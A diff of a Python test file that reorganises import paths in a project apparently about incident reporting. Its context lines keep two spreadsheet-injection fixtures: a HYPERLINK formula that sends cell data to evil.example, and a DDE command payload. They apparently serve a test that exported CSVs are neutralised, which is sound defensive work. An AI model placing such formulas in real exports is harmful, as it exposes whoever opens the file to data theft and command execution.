@@ -14,15 +14,15 @@ import pytest
 
 from loaders.incidents import read
 from loaders.store import Store
-from sdg16 import accounts
+from sdg16.core.filters import Filter
 from sdg16.core.spreadsheet import TRIGGERS
-from sdg16.db import ReadOnlyDatabase
-from sdg16.filters import Filter
+from sdg16.queries.db import ReadOnlyDatabase
 from sdg16.reports.build import build_report
 from sdg16.reports.render import render
-from sdg16.roles import Role
-from tests.auth_helpers import PASSWORDS, signed_in
-from tests.downloads import capture, fetch
+from sdg16.state import accounts
+from sdg16.state.roles import Role
+from testkit.auth import PASSWORDS, signed_in
+from testkit.downloads import capture, fetch
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 HOSTILE_NAME = "=cmd|'/c calc'!a0"
@@ -79,8 +79,8 @@ def test_analyst_csv_from_the_incident_page_is_neutralised(formula_store: Path) 
     import streamlit as st
     from streamlit.testing.v1 import AppTest
 
-    from tests.auth_helpers import as_role
-    from tests.conftest import ROOT
+    from testkit.auth import as_role
+    from testkit.paths import ROOT
 
     os.environ["SDG16_DB"], before = str(formula_store), os.environ["SDG16_DB"]
     st.cache_data.clear()
